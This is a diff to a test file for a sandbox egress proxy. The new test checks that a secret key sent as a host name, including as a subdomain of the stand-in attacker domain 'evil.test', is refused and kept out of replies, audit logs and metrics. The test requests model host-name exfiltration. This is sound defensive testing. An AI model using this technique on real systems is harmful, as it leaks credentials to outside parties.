@@ -156,7 +156,18 @@ describe('I5: a real key stays inside', () => {
     }
   });
 
-  // Known gap: a key in lower case that a sandbox sends as a host name (`GET http://KEY.evil.test/`) is refused, but the
-  // host stands in the record, the metric label and the answer.
-  it.todo('shows it nowhere when it is sent as a host name');
+  it('shows it nowhere when it is sent as a host name, in any case', async () => {
+    for (const host of [REAL, REAL.toLowerCase(), `${REAL}.evil.test`]) {
+      for (const text of [
+        `GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
+        `CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`,
+      ]) {
+        const reply = await askOnce(world.port, text);
+        if (host.includes(REAL)) expect(reply.json()).toMatchObject({ status: 403, reason: 'secret_leak' });
+        expect((reply.head + reply.body.toString()).includes(REAL)).toBe(false);
+      }
+    }
+    const seen = JSON.stringify(await world.audit()) + (await world.metrics());
+    expect(seen.includes(REAL)).toBe(false);
+  });
 });
